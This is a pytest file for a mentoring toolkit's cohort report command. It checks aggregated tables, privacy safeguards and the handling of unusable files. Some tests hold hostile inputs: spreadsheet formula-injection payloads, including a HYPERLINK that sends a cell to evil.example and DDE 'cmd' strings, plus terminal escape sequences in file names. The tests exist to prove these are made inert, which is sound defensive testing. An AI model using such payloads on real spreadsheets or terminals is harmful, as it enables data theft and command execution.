"""``mentorkit report``: a cohort's exported answers in aggregate, as a programme owner reads them.

The expected figures are worked out here from the same files with the reference
scoring, one file at a time, and compared with what the report's tables show.
"""

from __future__ import annotations

import csv
import json
import os
import random
import re
import subprocess
import sys
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from mentorkit.commands.cli import main
from mentorkit.scoring.cohort import boundaries
from mentorkit.scoring.scoring import score
from mentorkit.site.project import load_all
from mentorkit.site.spec import runtime_spec

from tests.unit.helpers import BANDS_SAMPLE, ROOT, SAMPLE, mutate

QUESTIONNAIRES = ROOT / "questionnaires"
COMPETENCE = QUESTIONNAIRES / "mentor-competence.yml"  # levels
READINESS = QUESTIONNAIRES / "mentee-readiness.yml"  # bands
ROLES = QUESTIONNAIRES / "mentor-roles.yml"  # profile
AGREEMENT = QUESTIONNAIRES / "mentoring-agreement.yml"  # none, mostly free text


def spec_of(path: Path) -> dict:
    (q,) = load_all([path], pages=None)
    return runtime_spec(q)


def record(
    spec: dict,
    answers: dict,
    *,
    version: str | None = None,
    results: dict | None = None,
    exported_at: str = "2026-03-02T10:00:00.000Z",
) -> dict:
    """An answers file as the page exports it (transfer.js exportRecord)."""
    return {
        "format": "mentorkit-answers",
        "format_version": 1,
        "questionnaire": spec["id"],
        "version": version or spec["version"],
        "title": spec["title"],
        "exported_at": exported_at,
        "answers": answers,
        "results": results if results is not None else score(spec, answers),
    }


def scale_answers(spec: dict, seed: int, *, skip: int = 0) -> dict:
    """Answers to every scale statement, leaving out the first ``skip`` of them."""
    rnd = random.Random(seed)
    values = [point["value"] for point in spec["scale"]]
    items = [item["id"] for group in spec["groups"] for item in group["items"] if item["type"] == "scale"]
    return {item: rnd.choice(values) for item in items[skip:]}


def write_files(folder: Path, spec: dict, answer_sets: list[dict], **kwargs) -> list[Path]:
    folder.mkdir(parents=True, exist_ok=True)
    paths = []
    for n, answers in enumerate(answer_sets):
        path = folder / f"mentor-{n + 1}-jane-doe.json"
        path.write_text(
            json.dumps(record(spec, answers, exported_at=f"2026-03-{n + 1:02d}T10:00:00Z", **kwargs)), encoding="utf-8"
        )
        paths.append(path)
    return paths


def run_report(capsys, tmp_path, questionnaire: Path, folder: Path, *more: str) -> tuple[int, str, str]:
    code = main(["report", str(questionnaire), str(folder), *more, "--output", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    return code, out, err


def report_process(questionnaire: Path, folder: Path, tmp_path: Path) -> subprocess.CompletedProcess:
    """`mentorkit report` in a process of its own, as an owner runs it, with a time limit: what
    escapes as a traceback, or waits for ever, shows here."""
    command = [sys.executable, "-m", "mentorkit.commands.cli", "report", str(questionnaire), str(folder)]
    return subprocess.run(
        [*command, "--output", str(tmp_path / "out")], cwd=ROOT, capture_output=True, text=True, timeout=60
    )


def outputs(tmp_path) -> tuple[str, list[list[str]]]:
    html = (tmp_path / "out" / "report.html").read_text(encoding="utf-8")
    with (tmp_path / "out" / "report.csv").open(encoding="utf-8", newline="") as file:
        return html, list(csv.reader(file))


def cohort_report(capsys, tmp_path, questionnaire: Path, answer_sets: list[dict]) -> tuple[str, list[list[str]], str]:
    """These answer sets exported as files and reported on: the HTML, the CSV rows and stderr."""
    folder = tmp_path / "answers"
    write_files(folder, spec_of(questionnaire), answer_sets)
    code, _, err = run_report(capsys, tmp_path, questionnaire, folder)
    assert code == 0, err
    html, rows = outputs(tmp_path)
    return html, rows, err


class _Tables(HTMLParser):
    """Every table of a page as {caption: rows of cell texts}, headers included."""

    def __init__(self):
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._rows: list[list[str]] | None = None
        self._text: list[str] | None = None
        self._caption = ""

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self._rows = []
        elif tag == "tr" and self._rows is not None:
            self._rows.append([])
        elif tag in ("th", "td", "caption"):
            self._text = []

    def handle_data(self, data):
        if self._text is not None:
            self._text.append(data)

    def handle_endtag(self, tag):
        if tag == "caption":
            self._caption = " ".join("".join(self._text).split())
            self._text = None
        elif tag in ("th", "td") and self._rows is not None:
            self._rows[-1].append(" ".join("".join(self._text).split()))
            self._text = None
        elif tag == "table":
            self.tables[self._caption] = self._rows
            self._rows = None


def tables(html: str) -> dict[str, list[list[str]]]:
    parser = _Tables()
    parser.feed(html)
    return parser.tables


def percent(count: int, total: int) -> str:
    return f"{count / total * 100:.0f}%"


def merged(counts: list[int], columns: list[str]) -> list[tuple[str, int]]:
    """A row of counts as the report shows it: neighbours merged by the published summary's rule
    (cohort.boundaries), each span named by its columns, with its people."""
    found = boundaries(counts)
    assert found is not None
    return [(columns[a] if a == b else f"{columns[a]} to {columns[b]}", sum(counts[a : b + 1])) for a, b in found]


def written(counts: list[int], columns: list[str]) -> list[str]:
    """The same row in the CSV: each count in the first of its columns, the columns it covers naming it."""
    cells = []
    for a, b in boundaries(counts) or []:
        cells += [str(sum(counts[a : b + 1])), *[f"with {columns[a]}"] * (b - a)]
    return cells


def tally(entries, columns: list[str], column_of) -> list[int]:
    found = Counter(column_of(entry) for entry in entries)
    return [found[c] for c in columns]


# --- levels: the mentor self-assessment --------------------------------------------------


@pytest.fixture
def competence_cohort(tmp_path) -> tuple[Path, list[dict]]:
    """Seven mentors: one left a statement out, one exported from an older version,
    one file carries results that do not match its answers."""
    spec = spec_of(COMPETENCE)
    answer_sets = [scale_answers(spec, seed) for seed in range(6)] + [scale_answers(spec, 99, skip=1)]
    folder = tmp_path / "answers"
    paths = write_files(folder, spec, answer_sets)
    older = json.loads(paths[0].read_text(encoding="utf-8")) | {"version": "0123456789ab"}
    paths[0].write_text(json.dumps(older), encoding="utf-8")
    flattering = json.loads(paths[1].read_text(encoding="utf-8"))
    flattering["results"]["overall"] = {"status": "complete", "level": "master-practitioner"}
    paths[1].write_text(json.dumps(flattering), encoding="utf-8")
    return folder, answer_sets


LEVEL_COLUMNS = [
    "Incomplete",
    "Too little evidence",
    "Not yet Foundation",
    "Foundation",
    "Practitioner",
    "Senior Practitioner",
    "Master Practitioner",
]


def level_column(spec: dict, entry: dict) -> str:
    names = {level["id"]: level["name"] for level in spec["scoring"]["levels"]}
    if entry["status"] != "complete":
        return "Incomplete"
    if entry["evidence"] is False:
        return "Too little evidence"
    return names[entry["level"]] if entry["level"] else f"Not yet {spec['scoring']['levels'][0]['name']}"


def test_newcomers_with_little_that_applies_count_as_too_little_evidence_not_as_no_level(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    newcomer = {i["id"]: "na" for g in spec["groups"] for i in g["items"]}
    answer_sets = [scale_answers(spec, seed) for seed in range(5)] + [newcomer] * 5
    html, rows, _ = cohort_report(capsys, tmp_path, COMPETENCE, answer_sets)
    header = rows[0]
    evidence = header.index("Too little evidence")
    assert all(row[evidence] == "5" for row in rows[1:])  # the newcomers, in every category and overall
    assert "or with too little evidence, are not counted in it" in html


def test_levels_heat_map_counts_the_level_each_person_reached_in_each_category(capsys, tmp_path, competence_cohort):
    folder, answer_sets = competence_cohort
    spec = spec_of(COMPETENCE)
    code, out, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0, err
    first = out.splitlines()[0]  # one line first, naming the first of the ranking below the heat map
    assert first.startswith("7 people handed in their answers; ")
    assert out.splitlines()[1] == f"wrote report.html, report.csv, means.svg in {tmp_path / 'out'}"
    html, rows = outputs(tmp_path)

    columns = LEVEL_COLUMNS
    results = [score(spec, answers) for answers in answer_sets]
    counts = [tally((r["groups"][g] for r in results), columns, lambda e: level_column(spec, e)) for g in range(8)]
    assert all(sum(row) == 7 for row in counts)  # every person in every category
    shown = tables(html)["Level reached in each category"]
    assert shown[0] == ["Category", *columns]
    assert shown[1:] == [
        [group["title"], *(str(n) for _, n in merged(row, columns))] for group, row in zip(spec["groups"], counts)
    ]
    assert not [n for row in shown[1:] for n in row[1:] if n in ("1", "2", "3", "4")]  # no one can be picked out

    overall = tally((r["overall"] for r in results), columns, lambda e: level_column(spec, e))
    assert overall[0] == 1 and overall[-1] == 0  # incomplete: 1; the flattering file's claim is ignored
    assert tables(html)["Overall level of the 7 people"] == [
        ["Result", "People", "Share"],
        *([label, str(n), percent(n, 7)] for label, n in merged(overall, columns)),
    ]

    assert rows[0] == ["group_id", "category", *columns]
    assert rows[1:-1] == [
        [group["id"], group["title"], *written(row, columns)] for group, row in zip(spec["groups"], counts)
    ]
    assert rows[-1] == ["overall", "Overall level", *written(overall, columns)]
    weakest = tables(html)["Categories most in need of development"][1]
    assert f"the category most in need of development: {weakest[0]} (mean level {weakest[1]})" in first


def test_levels_ranks_the_categories_most_in_need_of_development_and_says_by_what_rule(
    capsys, tmp_path, competence_cohort
):
    folder, answer_sets = competence_cohort
    spec = spec_of(COMPETENCE)
    run_report(capsys, tmp_path, COMPETENCE, folder)
    html, _ = outputs(tmp_path)

    rank = {level["id"]: n + 1 for n, level in enumerate(spec["scoring"]["levels"])}
    means = {}
    for g, group in enumerate(spec["groups"]):
        reached = [
            rank.get(r["groups"][g]["level"], 0)
            for r in (score(spec, a) for a in answer_sets)
            if r["groups"][g]["status"] == "complete"
        ]
        means[group["title"]] = (sum(reached) / len(reached), len(reached))
    shown = tables(html)["Categories most in need of development"]
    assert shown[0] == ["Category", "Mean level", "People counted"]
    assert [(title, float(mean), int(n)) for title, mean, n in shown[1:]] == sorted(
        ((title, round(mean, 2), n) for title, (mean, n) in means.items()), key=lambda row: row[1]
    )
    assert "Ranked by the mean level reached, lowest first (0 Not yet Foundation, 1 Foundation," in html


def test_the_report_says_how_many_files_came_from_an_older_version(capsys, tmp_path, competence_cohort):
    run_report(capsys, tmp_path, COMPETENCE, competence_cohort[0])
    html, _ = outputs(tmp_path)
    assert "1 of these files was exported from an earlier version of the questionnaire." in html


def test_names_of_the_files_used_appear_nowhere(capsys, tmp_path, competence_cohort):
    _code, out, err = run_report(capsys, tmp_path, COMPETENCE, competence_cohort[0])
    html, rows = outputs(tmp_path)
    for text in (html, "\n".join(",".join(row) for row in rows), out, err):
        assert "jane-doe" not in text


def test_a_cohort_of_five_or_more_has_no_small_cohort_warning(capsys, tmp_path, competence_cohort):
    _, _, err = run_report(capsys, tmp_path, COMPETENCE, competence_cohort[0])
    html, _ = outputs(tmp_path)
    assert "Small cohort" not in html
    assert "identifiable" not in err


def test_the_page_is_self_contained_and_accessible(capsys, tmp_path, competence_cohort):
    run_report(capsys, tmp_path, COMPETENCE, competence_cohort[0])
    html, _ = outputs(tmp_path)
    assert html.startswith('<!doctype html>\n<html lang="en">')
    assert "<script" not in html
    assert not re.search(r"\b(src|href)=|url\(|@import", html)  # nothing fetched from anywhere
    assert html.count("<caption") == len(tables(html)) == 4  # levels, overall, most in need, mean answers
    # Each in a region of its own that scrolls on a phone, named by its caption.
    regions = re.findall(r'<div class="scroll" role="region" tabindex="0" aria-labelledby="([^"]+)">', html)
    assert len(regions) == 4 and all(f'<caption id="{name}">' in html for name in regions)
    assert '<th scope="col">Category</th>' in html and '<th scope="row">Understanding Self</th>' in html


# --- files that cannot be used ------------------------------------------------------------


def bad_files(folder: Path, spec: dict, good: dict) -> dict[str, str]:
    """Write one file per way of being unusable; return {file name: reason shown}."""
    other = spec_of(READINESS)
    files = {
        "notes.json": ("{not json", "not JSON"),
        "latin1.json": ('{"a": "caf\xe9"}'.encode("latin-1"), "not UTF-8 text"),
        "deep.json": ("[" * 100_000 + "]" * 100_000, "nested more than 100 levels deep"),
        "not-a-number.json": ('{"answers": {"a": NaN}}', "not JSON"),
        "list.json": ("[1, 2]", "not a mentorkit answers file"),
        "wrong-format.json": (
            json.dumps({**record(spec, good), "format": "other-tool"}),
            "not a mentorkit answers file",
        ),
        "future.json": (
            json.dumps({**record(spec, good), "format_version": 3}),
            "format version 3 is not one this toolkit reads",
        ),
        "readiness.json": (
            json.dumps(record(other, scale_answers(other, 1))),
            "answers to another questionnaire (mentee-readiness)",
        ),
        "empty.json": (json.dumps(record(spec, {})), "no answers that fit this questionnaire"),
        "nothing-fits.json": (
            json.dumps(record(spec, {"no-such-item": 3, next(iter(good)): 7})),
            "no answers that fit this questionnaire",
        ),
        "oversized.json": (json.dumps({**record(spec, good), "padding": "x" * (1024 * 1024)}), "larger than 1 MB"),
    }
    folder.mkdir(parents=True, exist_ok=True)
    for name, (content, _) in files.items():
        path = folder / name
        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")
    (folder / "nested.json").mkdir()  # a folder is not a file
    (folder / "nested.json" / "inside.json").write_text(json.dumps(record(spec, good)), encoding="utf-8")
    (folder / "readme.txt").write_text("not an answers file, and not *.json", encoding="utf-8")
    return {name: reason for name, (_, reason) in files.items()} | {"nested.json": "not a file (a folder)"}


def test_unusable_files_are_listed_with_their_reason_and_never_fatal(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    good = [scale_answers(spec, 1), scale_answers(spec, 2)]
    folder = tmp_path / "answers"
    first, _ = write_files(folder, spec, good)
    (folder / "zz-copy.json").write_bytes(first.read_bytes())  # handed in twice: one person, counted once
    reasons = bad_files(folder, spec, good[0]) | {"zz-copy.json": "a copy of another file's export"}

    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0, err
    html, rows = outputs(tmp_path)
    assert sorted(line for line in err.splitlines() if line.startswith("skipped ")) == sorted(
        f"skipped {name}: {reason}" for name, reason in reasons.items()
    )
    for name, reason in reasons.items():
        assert f"<li><code>{name}</code>: {reason.replace(chr(39), '&#39;')}</li>" in html
    assert "inside.json" not in html and "readme.txt" not in html  # not recursive; *.json only
    assert '<h2 id="c1-heading">2 people</h2>' in html  # the copy counted once
    assert len(rows) == 1 + 8 + 1  # the CSV holds aggregates only, no skipped files
    assert not any(name in ",".join(row) for row in rows for name in reasons)


def test_fewer_than_five_usable_files_bring_a_visible_warning_but_still_a_report(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    write_files(folder, spec, [scale_answers(spec, seed) for seed in range(4)])
    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0
    html, _ = outputs(tmp_path)
    assert '<p class="warning" role="note"><strong>Small cohort:</strong> only 4 files could be used.' in html
    assert "individuals may be identifiable" in html
    assert err == "warning: only 4 usable file(s); individuals may be identifiable, share the report with care\n"


def test_no_usable_file_exits_1_and_writes_nothing(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    bad_files(folder, spec, scale_answers(spec, 1))
    code, out, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 1
    assert out == ""
    assert err.splitlines()[-1] == "no usable answers files for 'mentor-competence' (12 skipped); no report written"
    assert not (tmp_path / "out").exists()


def test_an_empty_or_missing_folder_exits_1_with_a_message(capsys, tmp_path):
    (tmp_path / "empty").mkdir()
    assert run_report(capsys, tmp_path, COMPETENCE, tmp_path / "empty")[::2] == (
        1,
        "no usable answers files for 'mentor-competence' (0 skipped); no report written\n",
    )
    assert run_report(capsys, tmp_path, COMPETENCE, tmp_path / "nowhere")[::2] == (
        1,
        f"{tmp_path / 'nowhere'}: not a folder of answers files\n",
    )


def test_an_output_that_cannot_be_written_exits_1(capsys, tmp_path, competence_cohort):
    (tmp_path / "a-file").write_text("", encoding="utf-8")
    code = main(["report", str(COMPETENCE), str(competence_cohort[0]), "--output", str(tmp_path / "a-file" / "out")])
    err = capsys.readouterr().err
    assert code == 1
    assert err.startswith(f"cannot write {tmp_path / 'a-file' / 'out' / 'report.html'}: ")


def test_a_broken_questionnaire_exits_1_with_its_problems(capsys, tmp_path, competence_cohort):
    broken = tmp_path / "broken.yml"
    broken.write_text(COMPETENCE.read_text(encoding="utf-8").replace("  meets: 2\n", "  meets: 9\n"), encoding="utf-8")
    code, _out, err = run_report(capsys, tmp_path, broken, competence_cohort[0])
    assert code == 1
    assert "scoring.meets: meets 9 is outside the scale" in err


def test_missing_arguments_are_a_usage_error(capsys):
    with pytest.raises(SystemExit) as caught:
        main(["report", str(COMPETENCE)])
    assert caught.value.code == 2
    assert "the following arguments are required: answers" in capsys.readouterr().err


def test_in_a_real_process_bad_input_gives_messages_not_a_traceback(tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    bad_files(folder, spec, scale_answers(spec, 1))

    def report(questionnaire: Path) -> subprocess.CompletedProcess:
        return report_process(questionnaire, folder, tmp_path)

    nothing_usable = report(COMPETENCE)
    assert nothing_usable.returncode == 1
    assert "skipped deep.json: nested more than 100 levels deep\n" in nothing_usable.stderr
    assert nothing_usable.stderr.endswith("(12 skipped); no report written\n")
    assert "Traceback" not in nothing_usable.stderr

    missing = report(tmp_path / "no.yml")
    assert missing.returncode == 1
    assert missing.stderr.startswith(f"{tmp_path / 'no.yml'}:1:1: cannot read this file")
    assert "Traceback" not in missing.stderr


# --- bands, profile, none ------------------------------------------------------------------


def test_bands_count_people_per_band_and_rank_the_characteristics_most_often_to_work_on(capsys, tmp_path):
    spec = spec_of(READINESS)
    answer_sets = [scale_answers(spec, seed) for seed in range(5)] + [scale_answers(spec, 7, skip=2)]
    html, rows, _ = cohort_report(capsys, tmp_path, READINESS, answer_sets)

    names = {band["id"]: band["name"] for band in spec["scoring"]["bands"]}
    columns = ["Incomplete", *names.values()]  # lowest first
    results = [score(spec, answers) for answers in answer_sets]

    def column(entry):
        return names[entry["band"]] if entry["status"] == "complete" else "Incomplete"

    counts = [tally((r["groups"][g] for r in results), columns, column) for g in range(len(spec["groups"]))]
    expected = [
        [group["title"], *(str(n) for _, n in merged(row, columns))] for group, row in zip(spec["groups"], counts)
    ]
    assert tables(html)["Band of each characteristic"] == [["Characteristic", *columns], *expected]
    overall = tally((r["overall"] for r in results), columns, column)
    assert rows[-1] == ["overall", "Overall band", *written(overall, columns)]

    focus = Counter(group_id for r in results for group_id in r["focus"])
    shown = tables(html)["Characteristics most often to work on"]
    ranked = sorted(spec["groups"], key=lambda group: -focus[group["id"]])
    assert shown[1:] == [
        [g["title"], "fewer than 5" if 0 < focus[g["id"]] < 5 else str(focus[g["id"]])] for g in ranked
    ]
    assert "below the band &#39;Ready&#39;" in html


def test_profile_shows_the_mean_of_means_and_how_often_each_role_was_least_used(capsys, tmp_path):
    spec = spec_of(ROLES)
    answer_sets = [scale_answers(spec, seed) for seed in range(5)] + [scale_answers(spec, 7, skip=1)]
    _, rows, _ = cohort_report(capsys, tmp_path, ROLES, answer_sets)

    results = [score(spec, answers) for answers in answer_sets]
    assert rows[0][2:] == ["Complete", "Incomplete", "Mean of means", "Among the least used"]

    def count(n: int) -> str:  # a count of 1 to 4 people could point at one of them
        return "fewer than 5" if 0 < n < 5 else str(n)

    for g, (group, row) in enumerate(zip(spec["groups"], rows[1:-1])):
        means = [r["groups"][g]["mean"] for r in results if r["groups"][g]["status"] == "complete"]
        least = sum(1 for r in results if group["id"] in r["focus"])
        assert row == [
            group["id"],
            group["title"],
            count(len(means)),
            count(6 - len(means)),
            str(round(sum(means) / len(means), 2)) if len(means) >= 5 else "",
            count(least),
        ]
    assert rows[-1][:4] == ["overall", "Answered every statement", "5", "fewer than 5"]


def test_none_counts_answered_items_and_never_shows_an_answer(capsys, tmp_path):
    spec = spec_of(AGREEMENT)
    personal = {
        "mentor-name": "Alice Example",
        "mentee-name": "Bob Sample",
        "our-goals": "Zebra lighthouse 7731: become head of finance",
        "frequency": "monthly",
        "duration-minutes": 45,
        "start-date": "2026-03-02",
    }
    answer_sets = [personal, {"frequency": "weekly"}, {"mentor-name": "Carol Person", "our-goals": "Quietly leave"}]
    html, rows, err = cohort_report(capsys, tmp_path, AGREEMENT, answer_sets)
    everything = html + json.dumps(rows) + err
    for answer in ("Alice", "Bob Sample", "Zebra", "lighthouse", "Carol", "Quietly", "2026-03-02", ">45<"):
        assert answer not in everything
    assert "Monthly" not in html and "Weekly" not in html  # not even a choice's label

    answered = tables(html)["Items answered"]
    assert answered[0] == ["Item", "Section", "People"]
    assert ["Mentor's name", "Who we are", "fewer than 5"] in answered  # two of three people: not shown
    assert ["How often will we meet?", "Meetings", "fewer than 5"] in answered
    assert ["Where will we meet, and how will we keep in touch between meetings?", "Meetings", "0"] in answered
    by_section = {row[0]: row[1:] for row in tables(html)["Items answered in each section"]}
    assert by_section["Who we are"] == ["fewer than 5"]  # three people in all: no count of them is shown
    assert rows[0] == ["group_id", "section", "Answered none", "Answered some", "Answered all"]
    assert len(rows) == 1 + len(spec["groups"]) + 1


def test_titles_from_the_yaml_are_escaped(capsys, tmp_path):
    questionnaire = tmp_path / "q.yml"
    questionnaire.write_text(mutate("title: Time\n", "title: Time <b>& more</b>\n", BANDS_SAMPLE), encoding="utf-8")
    spec = spec_of(questionnaire)
    folder = tmp_path / "answers"
    write_files(folder, spec, [scale_answers(spec, 1)])
    assert run_report(capsys, tmp_path, questionnaire, folder)[0] == 0
    html, rows = outputs(tmp_path)
    assert '<th scope="row">Time &lt;b&gt;&amp; more&lt;/b&gt;</th>' in html
    assert "<b>" not in html
    assert rows[3][:2] == ["time", "Time <b>& more</b>"]


def test_titles_and_names_a_spreadsheet_would_run_as_formulas_are_written_inert(capsys, tmp_path):
    text = BANDS_SAMPLE
    for old, new in [
        ("title: Time\n", 'title: \'=HYPERLINK("http://evil.example/?"&A1,"Time")\'\n'),
        ("title: Purpose\n", "title: '+1+cmd|'' /C calc''!A0'\n"),
        ("title: Expectations\n", "title: '@SUM(1+1)*cmd|'' /C calc''!A0'\n"),
        ("name: Not ready yet\n", "name: '-2+3'\n"),
        ("name: Ready\n", 'name: "\\tReady"\n'),
    ]:
        text = mutate(old, new, text)
    questionnaire = tmp_path / "q.yml"
    questionnaire.write_text(text, encoding="utf-8")
    spec = spec_of(questionnaire)
    write_files(tmp_path / "answers", spec, [scale_answers(spec, 1)] * 5)
    assert run_report(capsys, tmp_path, questionnaire, tmp_path / "answers")[0] == 0
    _, rows = outputs(tmp_path)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Time")' in cells
    assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert rows[0][3:6] == ["'-2+3", "Getting there", "'\tReady"]
    assert "5" in cells  # counts stay numbers


def test_level_names_a_spreadsheet_would_run_as_formulas_are_written_inert_too(capsys, tmp_path):
    text = mutate("name: Foundation\n", "name: '=1+1'\n", SAMPLE)
    text = mutate("name: Practitioner\n", "name: '@SUM(1+1)'\n", text)
    questionnaire = tmp_path / "q.yml"
    questionnaire.write_text(text, encoding="utf-8")
    spec = spec_of(questionnaire)
    write_files(tmp_path / "answers", spec, [scale_answers(spec, 3)] * 5)
    assert run_report(capsys, tmp_path, questionnaire, tmp_path / "answers")[0] == 0
    _, rows = outputs(tmp_path)
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert "'=1+1" in cells and "'@SUM(1+1)" in cells


def test_a_pipe_in_the_answers_folder_is_skipped_at_once_not_waited_on(tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    write_files(folder, spec, [scale_answers(spec, 1)])
    os.mkfifo(folder / "pipe.json")  # nothing ever writes to it: reading it would wait for ever
    result = report_process(COMPETENCE, folder, tmp_path)
    assert result.returncode == 0, result.stderr
    assert "skipped pipe.json: not a regular file (a pipe, a device or a socket)" in result.stderr


def test_a_file_with_a_byte_order_mark_is_read_as_the_page_reads_it(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    (path,) = write_files(folder, spec, [scale_answers(spec, 1)])
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0, err
    assert "skipped" not in err


@pytest.mark.parametrize("version", [True, None, "1", 3, 999])
def test_a_format_version_the_page_refuses_is_refused_too(capsys, tmp_path, version):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    write_files(folder, spec, [scale_answers(spec, 1)])
    (folder / "other.json").write_text(
        json.dumps({**record(spec, scale_answers(spec, 2)), "format_version": version}), encoding="utf-8"
    )
    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0, err
    assert f"skipped other.json: format version {version} is not one this toolkit reads" in err


def test_file_names_and_ids_that_would_drive_a_terminal_are_printed_escaped(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    folder = tmp_path / "answers"
    write_files(folder, spec, [scale_answers(spec, 1)])
    other = {**record(spec, scale_answers(spec, 2)), "questionnaire": "\x1b]0;owned\x07\u202eevil"}
    (folder / "\x1b[2Jname\u202e.json").write_text(json.dumps(other), encoding="utf-8")
    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0, err
    assert "skipped \\x1b[2Jname\\u202e.json: answers to another questionnaire (\\x1b]0;owned\\x07\\u202eevil)" in err
    assert not any(c in err for c in "\x1b\x07\u202e")


def test_a_full_backup_handed_in_counts_its_answers_and_nothing_it_kept_besides(capsys, tmp_path):
    spec = spec_of(COMPETENCE)
    sets = [scale_answers(spec, seed=n) for n in range(6)]
    folder = tmp_path / "cohort"
    paths = write_files(folder, spec, sets)
    backup = json.loads(paths[0].read_text(encoding="utf-8"))
    their_view = {"id": "req-1", "role": "supervisor", "name": "Robin Observer", "answers": sets[5]}
    backup |= {"format_version": 2, "lists": {"views": [their_view], "attempts": [{"id": "a1", "label": "before"}]}}
    paths[0].write_text(json.dumps(backup), encoding="utf-8")
    code, _, err = run_report(capsys, tmp_path, COMPETENCE, folder)
    assert code == 0
    assert "note: 1 file(s) were full backups; only their answers were read" in err
    html, rows = outputs(tmp_path)
    assert "1 of these files was a full backup" in " ".join(html.split())
    assert "Robin Observer" not in html and "Robin Observer" not in json.dumps(rows)
    # The same six people as with the answers alone: the view inside was not counted as a seventh.
    write_files(tmp_path / "plain", spec, sets)
    code, _, _ = run_report(capsys, tmp_path / "again", COMPETENCE, tmp_path / "plain")
    assert rows == outputs(tmp_path / "again")[1]
